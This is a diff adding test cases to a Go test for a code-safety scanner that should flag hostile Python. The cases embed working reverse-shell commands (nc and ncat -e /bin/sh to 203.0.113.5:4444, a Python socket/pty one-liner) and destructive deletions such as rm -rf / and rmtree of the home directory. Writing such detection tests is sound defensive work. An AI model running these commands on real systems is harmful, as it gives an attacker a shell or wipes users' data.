@@ -307,6 +307,27 @@ func TestPatterns(t *testing.T) {
 		{"os.execv sh -c", "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])\n", "codesafety.B605", "unsafe", 2},
 		{"os.execlp sh -c", "import os\nos.execlp('sh', 'sh', '-c', 'id')\n", "codesafety.B605", "unsafe", 2},
 		{"argv of a shell script", "import subprocess\nsubprocess.run(['bash', 'job.sh'])\nsubprocess.run(['grep', '-c', 'sh', 'f'])\n", "", "", 0},
+		// Reverse-shell and destructive commands in other spellings, joined from
+		// literals or written as an argv.
+		{"nc host port -e", "import os\nos.system('nc 203.0.113.5 4444 -e /bin/sh')\n", "codesafety.reverse-shell", "malicious", 2},
+		{"ncat --exec", "import os\nos.system('ncat 203.0.113.5 4444 --exec /bin/sh')\n", "codesafety.reverse-shell", "malicious", 2},
+		{"nc argv -e", "import subprocess\nsubprocess.run(['nc', host, '4444', '-e', '/bin/sh'])\n", "codesafety.reverse-shell", "malicious", 2},
+		{"python one-liner reverse shell", "import os\nos.system(\"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((h,4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\\\"sh\\\")'\")\n", "codesafety.reverse-shell", "malicious", 2},
+		{"nc as a client", "import os\nos.system('nc -zv db.internal 5432')\nos.system('echo hi | nc host 80')\n", "codesafety.B605", "unsafe", 2},
+		{"rm -Rf /", "import os\nos.system('rm -Rf /')\n", "codesafety.destructive", "malicious", 2},
+		{"rm --no-preserve-root", "import os\nos.system('rm -rf --no-preserve-root /')\n", "codesafety.destructive", "malicious", 2},
+		{"rm of a tmp dir and /", "import os\nos.system('rm -rf /tmp/x /')\n", "codesafety.destructive", "malicious", 2},
+		{"rm argv", "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n", "codesafety.destructive", "malicious", 2},
+		{"rm joined", "import os\nos.system('rm -rf ' + '/')\n", "codesafety.destructive", "malicious", 2},
+		{"rm f-string of a constant", "import os\ntarget = '/'\nos.system(f'rm -rf {target}')\n", "codesafety.destructive", "malicious", 3},
+		{"rm str.join", "import os\nos.system(' '.join(['rm', '-rf', '~']))\n", "codesafety.destructive", "malicious", 2},
+		{"sudo rm $HOME", "import os\nos.system('sudo rm -r -f $HOME')\n", "codesafety.destructive", "malicious", 2},
+		{"rm of a build dir", "import os, subprocess\nos.system('rm -rf ./build /tmp/x')\nsubprocess.run(['rm', '-rf', '/tmp/cache'])\n", "codesafety.B605", "unsafe", 2},
+		{"rmtree expanduser ~", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n", "codesafety.destructive", "malicious", 2},
+		{"rmtree Path.home()", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\n", "codesafety.destructive", "malicious", 3},
+		{"rmtree $HOME", "import shutil, os\nshutil.rmtree(os.environ['HOME'])\n", "codesafety.destructive", "malicious", 2},
+		{"rmtree of a home subdir", "import shutil, os\nfrom pathlib import Path\nshutil.rmtree(os.path.expanduser('~/build'))\nshutil.rmtree(Path.home() / 'cache')\n", "", "", 0},
+		{"destructive argv as data", "BLOCKED = [['rm', '-rf', '/'], ['mkfs.ext4', '/dev/sda']]\ndef ok(argv):\n    return argv not in BLOCKED\n", "", "", 0},
 		{"destructive command in a docstring", "def guard(c):\n    \"\"\"Refuses rm -rf / and the like.\"\"\"\n", "", "", 0},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
